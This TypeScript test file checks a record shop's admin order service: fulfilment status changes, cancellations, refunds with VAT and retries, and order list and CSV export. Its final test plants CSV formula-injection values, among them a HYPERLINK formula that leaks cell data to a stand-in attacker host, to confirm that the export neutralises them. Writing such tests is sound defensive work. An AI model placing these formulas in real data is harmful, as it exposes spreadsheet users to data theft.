import { parse as parseCsv } from "csv-parse/sync";
import { and, eq, sql } from "drizzle-orm";
import { describe, expect, it, vi } from "vitest";
import { auditLog, emailOutbox, orderLines, orders, records, refunds, stockMovements, users } from "../../db/schema";
import { insertDiscountCode, insertRecord, TEST_ADDRESS, useShopServices } from "../../tests/setup/shop-fixtures";
import { TEST_TODAY } from "../../tests/setup/test-db";
import { createServices } from ".";
import { ConflictError, NotFoundError } from "../../app/domain/shared/errors";
import { orderListQuerySchema, shipInputSchema } from "../../app/domain/orders/order-admin";
import { vatIncludedPence } from "../../app/domain/shared/money";
import { TEST_CARD_SUCCESS, createTestCardProvider } from "../payments/test-card";
import type { CardFormProvider } from "../../app/domain/payments/order-payments";
import type { Services } from ".";

const shop = useShopServices();
const NEXT_YEAR = "2027-03-01";
const card = { number: TEST_CARD_SUCCESS, expiry: "12/30", cvc: "123" };
let n = 0;
// The service takes what the adapters parsed: a tracking number as typed, the list's filters as the address has them.
const shipment = (input: { trackingNumber: string; service?: string }) => shipInputSchema.parse(input);
const query = (input: Record<string, string>) => orderListQuerySchema.parse(input);

function admin(): { id: number; username: string } {
  n += 1;
  const username = `boss-${n}`;
  const id = shop.t.db
    .insert(users)
    .values({ username, passwordHash: "x", email: `${username}@example.com`, role: "admin" })
    .returning()
    .get().id;
  return { id, username };
}

/** A paid order placed through the real checkout. */
async function paidOrder(
  lines: { recordId: number; quantity: number }[],
  opts: { email?: string; discountCode?: string | null; services?: Services; name?: string } = {},
) {
  n += 1;
  const out = await (opts.services ?? shop.s).checkout.submit(
    {
      idempotencyKey: `admin-orders-key-${n}-abcdefghijkl`,
      lines,
      discountCode: opts.discountCode ?? null,
      email: opts.email ?? `buyer-${n}@example.com`,
      shipping: { ...TEST_ADDRESS, name: opts.name ?? TEST_ADDRESS.name },
      userId: null,
      today: TEST_TODAY,
    },
    { card, origin: "http://localhost" },
  );
  expect(out.kind).toBe("paid");
  return out.order;
}

const stockOf = (id: number) => shop.t.db.select().from(records).where(eq(records.id, id)).get()!.stockQuantity;
/** Stock on hand from the ledger: every movement but pre-order commitments, which never touch the shelf. */
const ledgerOf = (id: number) =>
  shop.t.db
    .select({ sum: sql<number>`coalesce(sum(${stockMovements.change}), 0)` })
    .from(stockMovements)
    .where(and(eq(stockMovements.recordId, id), sql`${stockMovements.reason} != 'pre_order'`))
    .get()!.sum;
const mailsWithKey = (prefix: string) =>
  shop.t.db
    .select()
    .from(emailOutbox)
    .where(sql`${emailOutbox.onceKey} LIKE ${`${prefix}%`}`)
    .all();
const auditOf = (orderNumber: string) =>
  shop.t.db
    .select()
    .from(auditLog)
    .where(and(eq(auditLog.entityType, "order"), eq(auditLog.entityId, orderNumber)))
    .orderBy(auditLog.id)
    .all();

function seedStock(id: number, quantity: number) {
  shop.t.db.insert(stockMovements).values({ recordId: id, change: quantity, reason: "seed" }).run();
}

describe("the state machine in the service", () => {
  it("pack → ship → delivered, each with its timestamp, its audit row and the service's cost", async () => {
    const boss = admin();
    const rec = insertRecord(shop.t.db, { pricePence: 2500, stockQuantity: 3 });
    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }]);
    const packed = shop.s.adminOrders.pack(boss, order.orderNumber, { service: "tracked_24" });
    expect(packed.status).toBe("packed");
    expect(packed.fulfilment).toMatchObject({ service: "tracked_24", serviceName: "Tracked 24", costPence: 479 });
    const shipped = shop.s.adminOrders.ship(boss, order.orderNumber, shipment({ trackingNumber: "rr473124829gb" }));
    expect(shipped.status).toBe("shipped");
    expect(shipped.fulfilment.trackingNumber).toBe("RR473124829GB");
    expect(shipped.fulfilment.service).toBe("tracked_24");
    const delivered = shop.s.adminOrders.markDelivered(boss, order.orderNumber);
    expect(delivered.status).toBe("delivered");
    expect(delivered.timeline.map((e) => e.label)).toEqual(["Placed", "Paid", "Packed", "Shipped", "Delivered"]);
    const rows = auditOf(order.orderNumber);
    expect(rows.map((r) => [r.action, r.actorName, r.before?.status, r.after?.status])).toEqual([
      ["pack", boss.username, "paid", "packed"],
      ["ship", boss.username, "packed", "shipped"],
      ["deliver", boss.username, "shipped", "delivered"],
    ]);
    expect(delivered.history).toHaveLength(3);
  });

  it("refuses forbidden moves with a ConflictError that says why, and changes nothing", async () => {
    const boss = admin();
    const rec = insertRecord(shop.t.db, { stockQuantity: 5 });
    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }]);
    expect(() => shop.s.adminOrders.markDelivered(boss, order.orderNumber)).toThrow(
      new ConflictError(`Order ${order.orderNumber} is paid: it cannot be marked as delivered.`),
    );
    shop.s.adminOrders.ship(boss, order.orderNumber, shipment({ trackingNumber: "AB123456785GB" }));
    expect(() => shop.s.adminOrders.pack(boss, order.orderNumber, { service: "first_class" })).toThrow(ConflictError);
    await expect(shop.s.adminOrders.cancel(boss, order.orderNumber, {})).rejects.toThrow("can no longer be cancelled");
    expect(shop.s.adminOrders.get(order.orderNumber).status).toBe("shipped");

    // An unpaid order and one whose payment failed can be neither packed nor refunded.
    const pending = shop.s.orders.place({
      idempotencyKey: `admin-orders-pending-${n}-abcdefgh`,
      lines: [{ recordId: rec.id, quantity: 1 }],
      discountCode: null,
      email: "pending@example.com",
      shipping: TEST_ADDRESS,
      userId: null,
      paymentProvider: "test-card",
      today: TEST_TODAY,
    }).order;
    expect(() => shop.s.adminOrders.pack(boss, pending.orderNumber, { service: "first_class" })).toThrow(
      "is awaiting payment: it cannot be packed",
    );
    shop.s.orders.cancelUnpaid(pending.orderNumber);
    await expect(shop.s.adminOrders.refund(boss, pending.orderNumber, { reason: "Goodwill gesture" })).rejects.toThrow(
      "Nothing was paid",
    );
    expect(shop.s.adminOrders.get(pending.orderNumber).moves).toEqual({
      pack: false,
      ship: false,
      markDelivered: false,
      cancel: false,
      refund: false,
    });
    expect(() => shop.s.adminOrders.get("ND-AAAAAAAA")).toThrow(NotFoundError);
  });

  it("two admins moving the same order at once: one wins, the other gets a conflict", async () => {
    const [a, b] = [admin(), admin()];
    const rec = insertRecord(shop.t.db, { stockQuantity: 5 });
    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }]);
    // A second service on its own connection to the same file, like a second server process.
    const other = createServices(shop.t.db, { mediaDir: "" });
    shop.s.adminOrders.pack(a, order.orderNumber, { service: "first_class" });
    expect(() => other.adminOrders.pack(b, order.orderNumber, { service: "tracked_48" })).toThrow(ConflictError);
    expect(shop.s.adminOrders.get(order.orderNumber).fulfilment.service).toBe("first_class");
  });

  it("a pre-order line not yet allocated blocks pack and ship; once allocated the order moves", async () => {
    const boss = admin();
    const pre = insertRecord(shop.t.db, { stockQuantity: 0, releaseDate: NEXT_YEAR, title: "Future Sounds" });
    const order = await paidOrder([{ recordId: pre.id, quantity: 1 }]);
    const view = shop.s.adminOrders.get(order.orderNumber);
    expect(view.moves.pack).toBe(false);
    expect(view.blockedBy).toContain('"Future Sounds" is a pre-order');
    expect(() => shop.s.adminOrders.pack(boss, order.orderNumber, { service: "first_class" })).toThrow(
      '"Future Sounds" is a pre-order',
    );
    expect(() => shop.s.adminOrders.ship(boss, order.orderNumber, shipment({ trackingNumber: "AB123456785GB" }))).toThrow(
      ConflictError,
    );
    shop.t.db.update(orderLines).set({ allocatedAt: new Date().toISOString() }).where(eq(orderLines.recordId, pre.id)).run();
    expect(shop.s.adminOrders.pack(boss, order.orderNumber, { service: "first_class" }).status).toBe("packed");
  });
});

describe("dispatch mail", () => {
  it("goes out once per order with the tracking link, even when shipping is repeated", async () => {
    const boss = admin();
    const rec = insertRecord(shop.t.db, { stockQuantity: 5 });
    const order = await paidOrder([{ recordId: rec.id, quantity: 2 }], { email: "tracked@example.com" });
    shop.s.adminOrders.ship(boss, order.orderNumber, shipment({ trackingNumber: "AB123456785GB", service: "tracked_48" }));
    shop.s.adminOrders.ship(boss, order.orderNumber, shipment({ trackingNumber: "ab 123 456 785 gb" }));
    expect(() => shop.s.adminOrders.ship(boss, order.orderNumber, shipment({ trackingNumber: "RR473124829GB" }))).toThrow(
      "already shipped with tracking number AB123456785GB",
    );
    const mails = mailsWithKey(`dispatch:${order.orderNumber}`);
    expect(mails).toHaveLength(1);
    expect(mails[0]!.toAddress).toBe("tracked@example.com");
    expect(mails[0]!.textBody).toContain("https://www.royalmail.com/track-your-item#/tracking-results/AB123456785GB");
    expect(mails[0]!.textBody).toContain("Tracked 48");
    expect(auditOf(order.orderNumber).filter((r) => r.action === "ship")).toHaveLength(1);
    await shop.s.mail.idle();
    expect(shop.inbox.messages.filter((m) => m.to === "tracked@example.com" && /on its way/.test(m.subject))).toHaveLength(1);
    // The customer's own view of the order carries the link from now on.
    expect(shop.s.orders.get(order.orderNumber)!.tracking).toEqual({
      number: "AB123456785GB",
      url: "https://www.royalmail.com/track-your-item#/tracking-results/AB123456785GB",
    });
  });
});

describe("cancel", () => {
  it("returns every copy through the ledger, refunds what was paid, and emails once", async () => {
    const boss = admin();
    const lp = insertRecord(shop.t.db, { pricePence: 2000, stockQuantity: 0 });
    seedStock(lp.id, 0);
    shop.t.db.update(records).set({ stockQuantity: 4 }).where(eq(records.id, lp.id)).run();
    shop.t.db.insert(stockMovements).values({ recordId: lp.id, change: 4, reason: "delivery" }).run();
    const pre = insertRecord(shop.t.db, { pricePence: 2500, stockQuantity: 0, releaseDate: NEXT_YEAR });
    const order = await paidOrder(
      [
        { recordId: lp.id, quantity: 3 },
        { recordId: pre.id, quantity: 2 },
      ],
      { email: "cancel-me@example.com" },
    );
    expect(stockOf(lp.id)).toBe(1);
    expect(ledgerOf(lp.id)).toBe(1);

    const cancelled = await shop.s.adminOrders.cancel(boss, order.orderNumber, { reason: "Damaged in the shop" });
    expect(cancelled.status).toBe("cancelled");
    expect(stockOf(lp.id)).toBe(4);
    expect(ledgerOf(lp.id)).toBe(stockOf(lp.id));
    expect(stockOf(pre.id)).toBe(0); // a pre-order waiting for its pressing took nothing from the shelf
    const moves = shop.t.db
      .select()
      .from(stockMovements)
      .where(
        eq(stockMovements.orderId, shop.t.db.select().from(orders).where(eq(orders.orderNumber, order.orderNumber)).get()!.id),
      )
      .all();
    expect(moves.map((m) => [m.recordId, m.change, m.reason, m.actorId])).toEqual([
      [lp.id, -3, "sale", null],
      [pre.id, -2, "pre_order", null],
      [lp.id, 3, "cancellation", boss.id],
      [pre.id, 2, "pre_order", boss.id],
    ]);
    expect(cancelled.refundedPence).toBe(order.totals.totalPence);
    expect(cancelled.refunds).toHaveLength(1);
    expect(cancelled.refunds[0]).toMatchObject({ amountPence: order.totals.totalPence, vatPence: order.totals.vatPence });
    expect(cancelled.refunds[0]!.providerReference).toMatch(/^test_refund_/);
    expect(mailsWithKey(`cancel:${order.orderNumber}`)).toHaveLength(1);
    expect(mailsWithKey(`cancel:${order.orderNumber}`)[0]!.textBody).toContain("Reason: Damaged in the shop");
    // Again: refused, nothing returned twice.
    await expect(shop.s.adminOrders.cancel(boss, order.orderNumber, {})).rejects.toThrow(ConflictError);
    expect(stockOf(lp.id)).toBe(4);
    expect(mailsWithKey(`cancel:${order.orderNumber}`)).toHaveLength(1);
  });

  it("an allocated pre-order line goes back on the shelf", async () => {
    const boss = admin();
    const pre = insertRecord(shop.t.db, { stockQuantity: 0, releaseDate: NEXT_YEAR });
    const order = await paidOrder([{ recordId: pre.id, quantity: 1 }]);
    shop.t.db.update(orderLines).set({ allocatedAt: new Date().toISOString() }).where(eq(orderLines.recordId, pre.id)).run();
    await shop.s.adminOrders.cancel(boss, order.orderNumber, {});
    expect(stockOf(pre.id)).toBe(1);
  });
});

describe("refund", () => {
  it("a line, then an amount to the penny, then the rest: VAT adds up to the order's, status follows the amount, one mail each", async () => {
    const boss = admin();
    const a = insertRecord(shop.t.db, { pricePence: 2999, stockQuantity: 5, title: "Kind of Blue" });
    const b = insertRecord(shop.t.db, { pricePence: 1849, stockQuantity: 5 });
    const order = await paidOrder(
      [
        { recordId: a.id, quantity: 2 },
        { recordId: b.id, quantity: 1 },
      ],
      { email: "refund-me@example.com" },
    );
    const total = order.totals.totalPence;
    expect(order.totals.vatPence).toBe(vatIncludedPence(total));
    const view = shop.s.adminOrders.get(order.orderNumber);
    const lineA = view.lines.find((l) => l.recordId === a.id)!;

    const first = await shop.s.adminOrders.refund(boss, order.orderNumber, {
      lines: [{ lineId: lineA.id, quantity: 1 }],
      reason: "Warped",
    });
    expect(first.status).toBe("partially_refunded");
    expect(first.refundedPence).toBe(2999);
    expect(first.refunds[0]).toMatchObject({
      amountPence: 2999,
      lines: [{ lineId: lineA.id, quantity: 1, amountPence: 2999 }],
      reason: "Warped",
    });
    expect(first.lines.find((l) => l.id === lineA.id)!.refundedQuantity).toBe(1);

    const second = await shop.s.adminOrders.refund(boss, order.orderNumber, { reason: "Goodwill gesture", amountPence: 1 });
    expect(second.refundedPence).toBe(3000);
    expect(second.refunds[1]!.amountPence).toBe(1);

    await expect(
      shop.s.adminOrders.refund(boss, order.orderNumber, { reason: "Goodwill gesture", amountPence: total - 3000 + 1 }),
    ).rejects.toThrow("can still be refunded");
    await expect(
      shop.s.adminOrders.refund(boss, order.orderNumber, {
        reason: "Goodwill gesture",
        lines: [{ lineId: lineA.id, quantity: 2 }],
      }),
    ).rejects.toThrow('Only 1 of "Kind of Blue"');

    const last = await shop.s.adminOrders.refund(boss, order.orderNumber, { reason: "Goodwill gesture" });
    expect(last.status).toBe("refunded");
    expect(last.refundedPence).toBe(total);
    expect(last.refundablePence).toBe(0);
    expect(last.refunds.reduce((s, r) => s + r.amountPence, 0)).toBe(total);
    expect(last.refunds.reduce((s, r) => s + r.vatPence, 0)).toBe(order.totals.vatPence);
    expect(last.moves.refund).toBe(false);
    await expect(shop.s.adminOrders.refund(boss, order.orderNumber, { reason: "Goodwill gesture" })).rejects.toThrow(
      "already been refunded in full",
    );

    const mails = shop.t.db
      .select()
      .from(emailOutbox)
      .where(and(eq(emailOutbox.toAddress, "refund-me@example.com"), eq(emailOutbox.kind, "order-refund")))
      .all();
    expect(mails).toHaveLength(3);
    expect(mails[0]!.textBody).toContain("We have refunded £29.99 (including VAT of");
    expect(auditOf(order.orderNumber).filter((r) => r.action === "refund")).toHaveLength(3);
  });

  it("a partly refunded order that was never sent can still be packed, posted and delivered", async () => {
    const boss = admin();
    const a = insertRecord(shop.t.db, { pricePence: 2500, stockQuantity: 5 });
    const b = insertRecord(shop.t.db, { pricePence: 1500, stockQuantity: 5 });
    const order = await paidOrder([
      { recordId: a.id, quantity: 1 },
      { recordId: b.id, quantity: 1 },
    ]);
    const lineB = shop.s.adminOrders.get(order.orderNumber).lines.find((l) => l.recordId === b.id)!;
    const refunded = await shop.s.adminOrders.refund(boss, order.orderNumber, {
      reason: "Goodwill gesture",
      lines: [{ lineId: lineB.id, quantity: 1 }],
    });
    expect(refunded.status).toBe("partially_refunded");
    expect(refunded.moves).toMatchObject({ pack: true, ship: true, markDelivered: false });
    expect(shop.s.adminOrders.pack(boss, order.orderNumber, { service: "tracked_48" }).status).toBe("packed");
    expect(shop.s.adminOrders.ship(boss, order.orderNumber, shipment({ trackingNumber: "RR473124829GB" })).status).toBe(
      "shipped",
    );
    const delivered = shop.s.adminOrders.markDelivered(boss, order.orderNumber);
    expect(delivered.status).toBe("delivered");
    expect(delivered.refundedPence).toBe(1500);
    // Refunded again after delivery, it cannot be sent a second time.
    const again = await shop.s.adminOrders.refund(boss, order.orderNumber, { reason: "Goodwill gesture", amountPence: 100 });
    expect(again.status).toBe("partially_refunded");
    expect(again.moves).toMatchObject({ pack: false, ship: false, markDelivered: false });
    expect(() => shop.s.adminOrders.pack(boss, order.orderNumber, { service: "tracked_48" })).toThrow(/cannot|can't|not/i);
  });

  it("puts the refunded copies of an unsent order back on the shelf with a ledger entry, and keeps the reason", async () => {
    const boss = admin();
    const lp = insertRecord(shop.t.db, { pricePence: 2000, stockQuantity: 3 });
    seedStock(lp.id, 3);
    const order = await paidOrder([{ recordId: lp.id, quantity: 2 }]);
    expect(stockOf(lp.id)).toBe(1);
    const line = shop.s.adminOrders.get(order.orderNumber).lines[0]!;

    const refunded = await shop.s.adminOrders.refund(boss, order.orderNumber, {
      lines: [{ lineId: line.id, quantity: 1 }],
      shipping: true,
      reason: "Damaged in the shop",
      restock: true,
      expectedRefundedPence: 0,
    });
    expect(refunded.refunds[0]).toMatchObject({
      amountPence: 2000 + order.totals.shippingPence,
      shippingPence: order.totals.shippingPence,
      reason: "Damaged in the shop",
    });
    expect(stockOf(lp.id)).toBe(2);
    expect(ledgerOf(lp.id)).toBe(stockOf(lp.id));
    const orderId = shop.t.db.select().from(orders).where(eq(orders.orderNumber, order.orderNumber)).get()!.id;
    const back = shop.t.db
      .select()
      .from(stockMovements)
      .where(and(eq(stockMovements.orderId, orderId), eq(stockMovements.reason, "refund_restock")))
      .all();
    expect(back.map((m) => [m.recordId, m.change, m.actorId])).toEqual([[lp.id, 1, boss.id]]);
    const row = auditOf(order.orderNumber).find((r) => r.action === "refund")!;
    expect(row.after).toMatchObject({ reason: "Damaged in the shop", restocked: `1 × ${line.title}` });

    // Shipping goes back once; without restock the shelf is left alone.
    await expect(
      shop.s.adminOrders.refund(boss, order.orderNumber, { shipping: true, reason: "Again", restock: false }),
    ).rejects.toThrow("shipping has already been refunded");
    await shop.s.adminOrders.refund(boss, order.orderNumber, {
      lines: [{ lineId: line.id, quantity: 1 }],
      reason: "Customer changed their mind",
      restock: false,
    });
    expect(stockOf(lp.id)).toBe(2);
  });

  it("a refund posted twice from the same page is refused the second time", async () => {
    const boss = admin();
    const rec = insertRecord(shop.t.db, { pricePence: 2000, stockQuantity: 5 });
    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }]);
    await shop.s.adminOrders.refund(boss, order.orderNumber, {
      reason: "Goodwill gesture",
      amountPence: 500,
      expectedRefundedPence: 0,
    });
    await expect(
      shop.s.adminOrders.refund(boss, order.orderNumber, {
        reason: "Goodwill gesture",
        amountPence: 500,
        expectedRefundedPence: 0,
      }),
    ).rejects.toThrow("refunded since the page was opened");
    expect(shop.s.adminOrders.get(order.orderNumber).refundedPence).toBe(500);
  });

  it("a provider that fails undoes the claim; the retry asks with the same key, so the money goes back once", async () => {
    const boss = admin();
    const inner = createTestCardProvider();
    const keys: string[] = [];
    let failNext = true;
    const flaky: CardFormProvider = {
      ...inner,
      async refund(order, request) {
        keys.push(request.idempotencyKey);
        const result = await inner.refund(order, request); // the provider did it…
        if (failNext) {
          failNext = false;
          throw new Error("socket hang up"); // …but its answer was lost
        }
        return result;
      },
    };
    const services = createServices(shop.t.db, { mediaDir: "", payments: flaky });
    const rec = insertRecord(shop.t.db, { pricePence: 2000, stockQuantity: 5 });
    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }], { services });
    const errors = vi.spyOn(console, "error").mockImplementation(() => {});
    await expect(
      services.adminOrders.refund(boss, order.orderNumber, { reason: "Goodwill gesture", amountPence: 700 }),
    ).rejects.toThrow("nothing was given back");
    errors.mockRestore();
    const undone = services.adminOrders.get(order.orderNumber);
    expect(undone).toMatchObject({ status: "paid", refundedPence: 0, refunds: [] });
    expect(auditOf(order.orderNumber).map((r) => r.action)).toEqual(["refund", "refund failed"]);

    const retried = await services.adminOrders.refund(boss, order.orderNumber, { reason: "Goodwill gesture", amountPence: 700 });
    expect(retried.refundedPence).toBe(700);
    expect(keys).toHaveLength(2);
    expect(keys[1]).toBe(keys[0]);
    // The provider answered the retry with the refund it had already made: one refund of 700 at its end.
    expect(retried.refunds[0]!.providerReference).toMatch(/^test_refund_/);
    expect(
      shop.t.db.select().from(refunds).where(eq(refunds.providerReference, retried.refunds[0]!.providerReference!)).all(),
    ).toHaveLength(1);
    await expect(
      flaky.refund(services.orders.get(order.orderNumber)!, {
        amountPence: order.totals.totalPence - 700 + 1,
        idempotencyKey: "other",
      }),
    ).rejects.toThrow("cannot exceed");
  });
});

describe("list and CSV", () => {
  it("filters by status, number, email, name and date, sorts and pages", async () => {
    const rec = insertRecord(shop.t.db, { pricePence: 1000, stockQuantity: 50 });
    const small = await paidOrder([{ recordId: rec.id, quantity: 1 }], { email: "list-zed@example.com", name: "Zed Listing" });
    const big = await paidOrder([{ recordId: rec.id, quantity: 3 }], { email: "list-amy@example.com", name: "Amy Listing" });
    const list = shop.s.adminOrders;
    expect(list.list(query({ q: small.orderNumber })).orders.map((o) => o.orderNumber)).toEqual([small.orderNumber]);
    expect(list.list(query({ q: small.orderNumber.toLowerCase() })).orders.map((o) => o.orderNumber)).toEqual([
      small.orderNumber,
    ]);
    expect(list.list(query({ q: "LIST-AMY@" })).orders.map((o) => o.orderNumber)).toEqual([big.orderNumber]);
    expect(list.list(query({ q: "zed list" })).orders.map((o) => o.orderNumber)).toEqual([small.orderNumber]);
    expect(list.list(query({ q: "%" })).total).toBe(0);
    const both = list.list(query({ q: "Listing", sort: "total" }));
    expect(both.orders.map((o) => o.orderNumber)).toEqual([big.orderNumber, small.orderNumber]);
    expect(both.orders[0]).toMatchObject({ itemCount: 3, status: "paid" });
    expect(list.list(query({ q: "Listing", sort: "oldest" })).orders.map((o) => o.orderNumber)).toEqual([
      small.orderNumber,
      big.orderNumber,
    ]);
    expect(list.list(query({ q: "Listing", status: "shipped" })).total).toBe(0);
    expect(list.list(query({ q: "Listing", from: "2000-01-01", to: "2000-01-02" })).total).toBe(0);
    expect(list.list(query({ q: "Listing", from: "2000-01-01" })).total).toBe(2);
    expect(list.list(query({ q: "Listing", to: "2000-01-02" })).total).toBe(0);
    const all = list.list(query({ size: "25" }));
    expect(all.total).toBeGreaterThanOrEqual(2);
    expect(list.list(query({ page: "999" })).page).toBe(all.pageCount); // past the end: the last page
  });

  it("exports the same filter as CSV, with a header and one row per order", async () => {
    const rec = insertRecord(shop.t.db, { pricePence: 1234, stockQuantity: 5 });
    insertDiscountCode(shop.t.db, "CSV10");
    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }], {
      email: "csv-export@example.com",
      name: "=cmd",
      discountCode: "CSV10",
    });
    const csv = shop.s.adminOrders.csv(query({ q: "csv-export@" }));
    const lines = csv
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe(
      "Order number,Placed (London),Status,Customer,Email,Postcode,Records,Items (GBP),Shipping (GBP),Discount (GBP),Total (GBP),VAT (GBP),Refunded (GBP),Royal Mail service,Tracking number",
    );
    expect(lines[1]).toContain(`${order.orderNumber},`);
    expect(lines[1]).toContain(",Paid,'=cmd,csv-export@example.com,SW1A 1AA,1,12.34,");
    expect(lines[1]).toContain(`,${(order.totals.totalPence / 100).toFixed(2)},`);
  });

  it("writes every text cell of the CSV a spreadsheet would run as a formula with an apostrophe in front", async () => {
    const rec = insertRecord(shop.t.db, { pricePence: 999, stockQuantity: 5 });
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }], { email: "csv-hostile@example.com", name });
    // Tracking numbers are checked when typed; one stored before that check, or by hand, is still written safely.
    shop.t.db
      .update(orders)
      .set({ trackingNumber: "@SUM(A1:A9)", shippingService: "-cmd" })
      .where(eq(orders.orderNumber, order.orderNumber))
      .run();
    const [header, row, ...rest] = parseCsv(shop.s.adminOrders.csv(query({ q: "csv-hostile@" })), { bom: true }) as string[][];
    expect(rest).toEqual([]);
    const cell = (column: string) => row![header!.indexOf(column)];
    expect(cell("Customer")).toBe(`'${name}`);
    expect(cell("Tracking number")).toBe("'@SUM(A1:A9)");
    expect(cell("Royal Mail service")).toBe("'-cmd");
    expect(cell("Total (GBP)")).toBe((order.totals.totalPence / 100).toFixed(2));
  });
});
